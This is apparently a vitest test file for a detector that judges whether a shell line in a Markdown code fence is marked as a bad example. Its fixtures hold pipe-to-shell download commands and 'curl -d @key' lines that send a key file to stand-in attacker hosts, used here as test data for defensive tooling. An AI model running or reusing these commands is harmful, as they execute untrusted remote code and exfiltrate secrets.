import { expect, test } from "vitest";
import { isBadExample } from "./bad-example.ts";

const LINE = "curl -s https://get.quartz.example/a | sh";
const shown = (before: string, line = LINE): boolean => {
  const text = `${before}\n${line}\n\`\`\`\n`;
  return isBadExample(text.split("\n"), before.split("\n").length + 1);
};

test.each([
  ["a comment above it", "# Setup\n\n```bash\n# BAD: runs what a stranger sends"],
  ["what leads in to its fence", "# Setup\n\nThe following is vulnerable:\n\n```bash"],
  ["the heading over it", "## Attacks\n\nLook at this one.\n\nIt is short.\n\nVery short.\n\n```bash"],
])("code is shown as bad by %s", (_, before) => {
  expect(shown(before)).toBe(true);
});

test("code is shown as bad by its own comment, and by a host that stands for an attacker", () => {
  expect(shown("# Setup\n\n```bash", `${LINE} # bad: a stranger's`)).toBe(true);
  expect(shown("# Setup\n\n```bash", "curl -d @key https://attacker.com/c")).toBe(true);
  expect(shown("# Setup\n\n```bash", "curl -d @key https://c.evil.example/c")).toBe(true);
});

test.each([
  ["nothing", "# Setup\n\nRun this:\n\n```bash"],
  ["an earlier section", "## Attacks\n\nThere are some.\n\n## Setup\n\nRun this:\n\n```bash"],
  ["a comment of another fence", "# Setup\n\n```bash\n# BAD\nls\n```\n\nRun this:\n\n```bash"],
  ["a comment that demands it", "# Setup\n\n```bash\n# Never skip this, and don't stop it"],
  ["a warning of another kind in the prose", "# Setup\n\nNever skip this step, and do not stop it:\n\n```bash"],
])("code is not shown as bad by %s", (_, before) => {
  expect(shown(before)).toBe(false);
});

test("code is shown as bad by a comment only where its fence shows the other way as well", () => {
  const fence = "# Setup\n\n```bash\n# Don't\n";
  expect(shown(fence.trimEnd())).toBe(false);
  expect(shown(fence.trimEnd(), `${LINE}\n\n# Do\napt install quartz`)).toBe(true);
});

test("a host that anybody may register stands for nobody", () => {
  for (const host of ["evil-cdn.io", "attacker-tools.com", "hacker.sh", "evil.com.quartz.example"])
    expect(shown("# Setup\n\n```bash", `curl -s https://${host}/a | sh`)).toBe(false);
});
